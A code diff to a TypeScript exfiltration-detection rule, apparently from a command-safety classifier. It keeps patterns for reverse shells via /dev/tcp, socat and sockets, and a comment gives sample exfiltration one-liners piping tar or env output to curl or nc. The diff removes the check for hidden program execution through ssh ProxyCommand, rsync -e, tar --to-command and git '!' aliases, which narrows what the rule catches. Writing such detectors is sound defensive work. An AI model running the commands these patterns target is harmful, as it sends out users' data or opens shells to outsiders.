@@ -7,7 +7,7 @@ export const EXFILTRATION: Danger = {
   name: 'exfiltration',
   why: 'sends files or the output of commands to another machine, or hands a shell to it',
   class: 'exfiltration',
-  command: (command) => sendsFile(command) || handsOverShell(command) || runsHiddenProgram(command),
+  command: (command) => sendsFile(command) || handsOverShell(command),
   file: ({ written }) => /^\/dev\/(?:tcp|udp)\//.test(written),
   call: pipesOut,
 };
@@ -40,30 +40,6 @@ function handsOverShell({ program, args }: RunCommand): boolean {
     return /\b(?:EXEC|SYSTEM|SHELL):/i.test(text) && /\b(?:TCP|UDP|OPENSSL|SCTP)\d?[-:]/i.test(text);
   if (SHELLS.test(program)) return /\/dev\/(?:tcp|udp)\//.test(text);
   return /socket/.test(text) && /\b(?:dup2|subprocess|pty\.spawn|exec|system)\b/.test(text);
-}
-
-/** A program named in an option of one that looks harmless. */
-function runsHiddenProgram({ program, args }: RunCommand): boolean {
-  const text = args.join(' ');
-  switch (program) {
-    case 'ssh':
-    case 'scp':
-    case 'sftp':
-      return /(?:ProxyCommand|LocalCommand)[= ]/i.test(text);
-    case 'rsync':
-      return args.some((word, at) => /^(?:-[a-zA-Z]*e|--rsh)$/.test(word) && !/^ssh\b/.test(args[at + 1] ?? ''));
-    case 'tar':
-    case 'gtar':
-      return (
-        /(?:^| )(?:-[a-zA-Z]*[IF] |--(?:use-compress-program|info-script|to-command|checkpoint-action)[= ])/.test(
-          text,
-        ) && !/(?:^| )(?:-I|--use-compress-program)[ =](?:zstd|pigz|gzip|xz|lz4|bzip2|pbzip2)\b/.test(text)
-      );
-    case 'git':
-      return /(?:^| )-c ?alias\.[^=]+=!/.test(text);
-    default:
-      return false;
-  }
 }
 
 /** `tar c . | curl -d @-`, `env | nc host 1`: what one command prints goes out by another. */
